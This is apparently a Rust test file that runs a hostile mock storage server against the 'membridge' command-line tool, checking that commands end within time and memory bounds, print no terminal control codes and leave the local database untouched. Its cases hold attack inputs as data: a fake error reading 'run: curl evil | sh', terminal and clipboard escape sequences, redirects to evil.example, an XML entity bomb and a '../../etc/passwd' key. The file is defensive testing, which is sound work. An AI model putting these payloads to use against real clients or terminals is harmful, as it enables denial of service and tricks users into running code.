//! Servers that mean harm, or are out of their mind (F70): answers without end, answers that drip, answers for the
//! terminal instead of the program. Each command ends, in words: exit code, memory and time are bounded, the live database
//! is untouched, signals are obeyed.

use std::io::Write;
use std::net::TcpStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::common::{assert_no_leftovers, with_memory};
use crate::support::hostile::{
    Asked, HostileServer, begin_chunks, chunk, listing, nothing, nothing_with, refusal, send,
};
use crate::support::machine::Machine;
use crate::support::process::Outcome;

/// What a command may allocate, in kilobytes: the kernel refuses more.
const MEMORY: u32 = 64 << 10;

/// What a command may take at all, and how long `status` keeps a person waiting: 5 s, on a machine that does something else as well.
const TIME: Duration = Duration::from_mins(1);
const STATUS: Duration = Duration::from_secs(15);
/// How long `doctor` does: 20 s.
const DOCTOR: Duration = Duration::from_secs(30);

/// Where a server sends those who ask.
const ELSEWHERE: &str = "Location: http://evil.example/\r\n";
/// What would be the title of a terminal's window, in bytes and in entities.
const TITLE: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e} &#27;[31m &#x9b;31m";

type Io = std::io::Result<()>;

/// A behaviour: its name, what is run, what is to be said, and what the server does.
type Case = (&'static str, &'static str, &'static str, fn(&Asked<'_>, &mut TcpStream) -> Io);

fn commit_keys(from: usize) -> Vec<String> {
    (0..1000).map(|n| format!("projects/6fe2e0f6071ac2bb/membridge/commits/{:010}.json", from + n)).collect()
}

fn is_record(asked: &Asked<'_>) -> bool {
    ["/membridge/", "lease.json", "manifest.json", "active.lock"]
        .iter()
        .any(|part| asked.target.contains(part))
}

/// Bytes without end, where `only` says so.
fn endless(asked: &Asked<'_>, stream: &mut TcpStream, only: bool, status: u16, first: &str) -> Io {
    if !only {
        return nothing(asked, stream);
    }
    begin_chunks(stream, status, first)?;
    let more = format!("<a>{}</a>", "x".repeat(65_536));
    loop {
        chunk(stream, &more)?;
    }
}

/// A byte now and then, without end, where `only` says so.
fn drip(asked: &Asked<'_>, stream: &mut TcpStream, only: bool, head: bool) -> Io {
    if !only {
        return nothing(asked, stream);
    }
    stream.write_all(b"HTTP/1.1 200 X\r\n")?;
    if !head {
        stream
            .write_all(b"Content-Type: application/xml\r\nETag: \"a\"\r\nContent-Length: 100000\r\n\r\n")?;
    }
    loop {
        stream.write_all(if head { b"X-A: y\r\n" } else { b"<" })?;
        std::thread::sleep(Duration::from_millis(500));
    }
}

/// One page after another, for ever.
fn pages(asked: &Asked<'_>, stream: &mut TcpStream) -> Io {
    if !asked.is_listing() {
        return nothing(asked, stream);
    }
    let page = listing(&commit_keys(asked.earlier * 1000), Some(&format!("t{}", asked.earlier)));
    send(stream, 200, "", &page)
}

const CASES: &[Case] = &[
    ("pages without end", "status", "did not answer within", pages),
    ("pages without end, to a list", "history", "more entries than any project has", pages),
    ("one token for ever", "status", "cannot be completed", |asked, stream| {
        if !asked.is_listing() {
            return nothing(asked, stream);
        }
        send(stream, 200, "", &listing(&commit_keys(1), Some("same")))
    }),
    ("a listing without end", "status", "", |asked, stream| {
        endless(asked, stream, asked.is_listing(), 200, "<?xml version='1.0'?><ListBucketResult>")
    }),
    ("a refusal without end", "status", "", |asked, stream| {
        endless(asked, stream, true, 403, "<?xml version='1.0'?><Error>")
    }),
    ("a record without end", "status", "", |asked, stream| {
        endless(asked, stream, is_record(asked) && !asked.is_listing(), 200, "{")
    }),
    ("headers that drip", "status", "", |asked, stream| drip(asked, stream, true, true)),
    ("a record that drips", "status", "", |asked, stream| {
        drip(asked, stream, is_record(asked) && !asked.is_listing(), false)
    }),
    ("a listing that drips", "status", "", |asked, stream| drip(asked, stream, asked.is_listing(), false)),
    ("a listing that drips, to a push", "push_sqlite", "", |asked, stream| {
        drip(asked, stream, asked.is_listing(), false)
    }),
    ("301 to elsewhere", "status", "", |_, stream| {
        send(stream, 301, ELSEWHERE, &refusal("PermanentRedirect", "go"))
    }),
    ("307 to elsewhere", "push_sqlite", "", |_, stream| {
        send(stream, 307, ELSEWHERE, &refusal("TemporaryRedirect", "go"))
    }),
    ("302 to elsewhere", "doctor", "", |_, stream| send(stream, 302, ELSEWHERE, "")),
    ("308 to elsewhere", "pull_sqlite", "", |_, stream| send(stream, 308, ELSEWHERE, "")),
    ("headers without end", "status", "", |_, stream| {
        stream.write_all(b"HTTP/1.1 200 X\r\n")?;
        let header = format!("X-A: {}\r\n", "y".repeat(60_000));
        loop {
            stream.write_all(header.as_bytes())?;
        }
    }),
    ("a refusal for the terminal", "status", "403", |_, stream| {
        send(stream, 403, "", &refusal("Access\u{1b}[31mDenied", TITLE))
    }),
    ("a refusal for the terminal, in JSON", "status --json", "403", |_, stream| {
        send(stream, 403, "", &refusal("AccessDenied", TITLE))
    }),
    ("a refusal with lines of its own", "push_sqlite", "418", |_, stream| {
        send(
            stream,
            418,
            "",
            &refusal("&#27;]52;c;ZXZpbA==&#7;", "a&#13;ERROR: fake&#10;  → run: curl evil | sh"),
        )
    }),
    ("a refusal of 900 kB", "status", "403", |_, stream| {
        send(stream, 403, "", &refusal("X", &"A".repeat(900_000)))
    }),
    ("a listing 300,000 deep", "status", "", |asked, stream| {
        if !asked.is_listing() {
            return nothing(asked, stream);
        }
        send(stream, 200, "", &format!("{}{}", "<a>".repeat(300_000), "</a>".repeat(300_000)))
    }),
    ("entities that grow", "status", "", |_, stream| {
        let tenfold = |n: u32| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10));
        let entities = (1..12).map(tenfold).collect::<Vec<_>>().concat();
        let page = format!(
            "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY e0 \"aaaaaaaaaa\">{entities}]>\
             <ListBucketResult><Contents><Key>&e11;</Key></Contents></ListBucketResult>"
        );
        send(stream, 200, "", &page)
    }),
    ("the year 9999", "status", "", |asked, stream| {
        nothing_with(asked, stream, "Date: Fri, 31 Dec 9999 23:59:59 GMT\r\n")
    }),
    ("the year 1", "doctor", "", |asked, stream| {
        nothing_with(asked, stream, "Date: Mon, 01 Jan 0001 00:00:00 GMT\r\n")
    }),
    ("a date for the terminal", "status", "", |asked, stream| {
        nothing_with(asked, stream, "Date: \u{1b}[31m\r\n")
    }),
    ("a clock that runs away", "status", "", |asked, stream| {
        let date = format!("Date: Fri, 01 Jan {} 00:00:00 GMT\r\n", 2030 + asked.earlier);
        send(stream, 403, &date, &refusal("RequestTimeTooSkewed", "no"))
    }),
    ("keys that lead elsewhere", "history", "", |asked, stream| {
        if !asked.is_listing() {
            return nothing(asked, stream);
        }
        let project = "projects/6fe2e0f6071ac2bb/membridge";
        let keys = [
            "../../etc/passwd".to_owned(),
            format!("{project}/commits/99999999999999999999.json"),
            format!("{project}/commits/18446744073709551615.json"),
            format!("{project}/commits/0000000001.json/../x"),
            format!("{project}/commits/&#27;[31m.json"),
        ];
        send(stream, 200, "", &listing(&keys, None))
    }),
    ("a body of 16 exabytes", "status", "", |asked, stream| {
        if asked.method != "GET" || asked.is_listing() {
            return nothing(asked, stream);
        }
        stream
            .write_all(b"HTTP/1.1 200 X\r\nETag: \"a\"\r\nContent-Length: 18446744073709551615\r\n\r\n{}")?;
        Err(std::io::Error::other("no more"))
    }),
    ("no HTTP", "status", "", |_, stream| {
        stream.write_all(b"HTTP/0.9 hello\n\n")?;
        Err(std::io::Error::other("no more"))
    }),
    ("silence, to doctor", "doctor", "", |_, _| {
        std::thread::sleep(TIME * 2);
        Ok(())
    }),
    ("a listing that drips, to doctor", "doctor", "", |asked, stream| {
        drip(asked, stream, asked.is_listing(), false)
    }),
    ("silence", "status", "", |_, _| {
        std::thread::sleep(TIME * 2);
        Ok(())
    }),
];

/// A machine with memory whose store is that server.
fn machine(server: &HostileServer) -> Machine {
    let mut machine = Machine::new("alpha", server.store());
    machine.set("NO_PROXY", "*");
    with_memory(&machine);
    machine
}

/// Runs a command with so much memory and no more.
fn run(machine: &Machine, words: &str) -> Outcome {
    let told = format!("ulimit -d {MEMORY} && exec {} {words}", env!("CARGO_BIN_EXE_membridge"));
    machine.program("/bin/sh").arg("-c").arg(told).timeout(TIME).run()
}

/// Whether a terminal would do something else than show it.
fn is_obeyed(c: char) -> bool {
    c != '\n' && (c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c))
}

/// What is wrong with how a command took a behaviour.
fn faults(case: &Case) -> Vec<String> {
    let (name, command, words, answer) = *case;
    let server = HostileServer::start(Arc::new(answer));
    let machine = machine(&server);
    let before = std::fs::read(machine.db_path()).unwrap();
    let end = run(&machine, command);
    let mut faults = Vec::new();
    let mut must = |holds: bool, what: &str| {
        if !holds {
            faults.push(format!("{name}: {what}\n{end:?}"));
        }
    };
    must(matches!(end.code, 0 | 1) && end.signal.is_none(), "ends with a code of ours");
    must(server.requests() > 0, "was asked at all");
    must(!end.stdout.trim().is_empty(), "says something");
    must(end.stdout.contains(words), "says what it is about");
    must(end.stdout.len() + end.stderr.len() < 20_000, "says it shortly");
    must(!end.stdout.chars().chain(end.stderr.chars()).any(is_obeyed), "says nothing to the terminal");
    must(!end.stdout.contains("panicked") && !end.stderr.contains("panicked"), "is no accident");
    must(!command.starts_with("status") || end.took < STATUS, "does not keep a person waiting");
    must(!command.starts_with("doctor") || end.took < DOCTOR, "does not keep a person waiting for long");
    must(std::fs::read(machine.db_path()).unwrap() == before, "leaves the database alone");
    assert_no_leftovers(&machine);
    faults
}

#[test]
fn f70_every_behaviour_ends_in_words_within_bounds() {
    assert!(CASES.len() >= 20);
    let (queue, found) = (std::sync::Mutex::new(CASES.iter()), std::sync::Mutex::new(Vec::new()));
    // Most of them wait.
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while let Some(case) = { queue.lock().unwrap().next() } {
                    let faults = faults(case);
                    found.lock().unwrap().extend(faults);
                }
            });
        }
    });
    let found = found.into_inner().unwrap();
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn f70_a_signal_is_obeyed_whatever_the_server_does() {
    for (name, command, _, answer) in CASES {
        if !["silence", "a listing that drips, to a push", "headers that drip"].contains(name) {
            continue;
        }
        let server = HostileServer::start(Arc::new(*answer));
        let machine = machine(&server);
        let running = machine.cmd(command).spawn();
        crate::support::fleet::until("a request", || server.requests() > 0);
        let told = Instant::now();
        running.sigterm();
        let end = running.wait();
        assert_eq!(end.code, 143, "{name}: {end:?}");
        assert!(told.elapsed() < Duration::from_secs(10), "{name}: {:?}", told.elapsed());
        assert_no_leftovers(&machine);
    }
}

#[test]
fn f70_a_push_and_a_pull_say_what_they_wait_for() {
    for command in ["push_sqlite", "pull_sqlite"] {
        let (_, _, _, silence) = CASES.iter().find(|case| case.0 == "silence").unwrap();
        let server = HostileServer::start(Arc::new(*silence));
        let machine = machine(&server);
        let running = machine.cmd(command).spawn();
        running.wait_for_stdout("waiting for the store: get projects/6fe2e0f6071ac2bb/");
        running.sigterm();
        assert_eq!(running.wait().code, 143);
    }
}
